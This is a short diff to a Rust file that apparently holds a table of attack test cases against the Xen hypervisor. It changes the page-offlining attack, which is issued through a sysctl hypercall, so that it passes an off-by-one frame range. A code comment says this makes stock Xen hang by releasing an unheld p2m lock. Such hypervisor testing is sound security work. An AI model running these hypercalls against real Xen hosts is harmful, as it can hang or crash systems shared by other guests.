@@ -113,13 +113,13 @@ pub const ATTACKS: &[Attack] = &[
         "29",
         "have a page taken out of use, to be exchanged through dom0",
         |scene| {
+            // From a page to the one before. Stock Xen takes the page itself, and then hangs at the guest's end: it
+            // gives back a lock of the guest's p2m that nobody has taken.
             let [data, _] = scene.data()?;
             let frame = data.frame.0 as u32;
             let status = scene.xen.buffer(4)?;
-            let call = |command| [pair(command, frame), frame.into(), status.address()];
-            let came = let_through(sysctl(scene.xen, 14, &call(1)))?;
-            let _ = sysctl(scene.xen, 14, &call(2));
-            Ok(came)
+            let call = [pair(1, frame), u64::from(frame) - 1, status.address()];
+            reached(sysctl(scene.xen, 14, &call))
         },
     ),
     Attack::new("inject-machine-check", "30", "pretend a machine check", |scene| {
